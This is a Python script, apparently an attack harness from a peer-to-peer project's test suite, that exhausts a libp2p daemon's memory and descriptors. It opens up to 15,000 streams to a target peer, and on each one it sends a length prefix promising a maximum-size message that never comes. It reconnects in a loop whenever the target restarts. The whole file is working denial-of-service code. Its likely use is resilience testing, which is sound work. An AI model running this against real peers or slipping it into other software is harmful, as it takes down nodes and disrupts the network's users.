"""A stranger who has a peer's p2pd set memory aside until it ends, and again when it is back.

Each stream promises a message of the longest length that p2pd takes, which never comes. The process
ends with its stdin; then it says how many streams it has opened.
"""

import asyncio
import contextlib
import json
import sys

from shoal.protocol.errors import ShoalError
from shoal.protocol.net.libp2p.multiaddrs import PeerAddress
from shoal.protocol.net.libp2p.p2p_daemon import (
    MAX_MESSAGE_BYTES,
    connect,
    open_byte_stream,
    start_reading_p2pd,
    stop_p2pd,
)

_PROTOCOL = "DHTProtocol.rpc_find"
_MOST_STREAMS = 15_000
"""At once, of which each is a descriptor here: more than end a p2pd."""

_CONNECT_SECONDS = 5.0
_REST_SECONDS = 0.2
"""Between two attempts to reach a p2pd that has ended."""


def _promise(num_bytes: int) -> bytes:
    """Return how protobuf says that so many bytes follow."""
    digits = bytearray()
    while num_bytes >= 0x80:
        digits.append(num_bytes & 0x7F | 0x80)
        num_bytes >>= 7
    return bytes([*digits, num_bytes])


async def _exhaust(target: PeerAddress, counts: list[int]) -> None:
    """Open streams through a new p2pd until the other one has ended."""
    p2p = await start_reading_p2pd([], None)
    opened: list[asyncio.StreamWriter] = []
    try:
        async with asyncio.timeout(_CONNECT_SECONDS):
            await connect(p2p, target.peer_id, target.text.rpartition("/p2p/")[0])
        while len(opened) < _MOST_STREAMS:
            _, writer = await open_byte_stream(p2p, target.peer_id, _PROTOCOL)
            opened.append(writer)
            counts[0] += 1
            writer.write(_promise(MAX_MESSAGE_BYTES))
    finally:
        for writer in opened:
            writer.transport.abort()
        await stop_p2pd(p2p)


async def _attack(address: str) -> None:
    target, counts = PeerAddress.parse(address), [0]
    print(json.dumps("ready"), flush=True)

    async def go_on() -> None:
        while True:
            with contextlib.suppress(ShoalError, TimeoutError, OSError):
                await _exhaust(target, counts)
            await asyncio.sleep(_REST_SECONDS)

    attacking = asyncio.create_task(go_on())
    await asyncio.to_thread(sys.stdin.read)
    attacking.cancel()
    await asyncio.wait([attacking])
    print(json.dumps(counts[0]), flush=True)


if __name__ == "__main__":
    asyncio.run(_attack(sys.argv[1]))
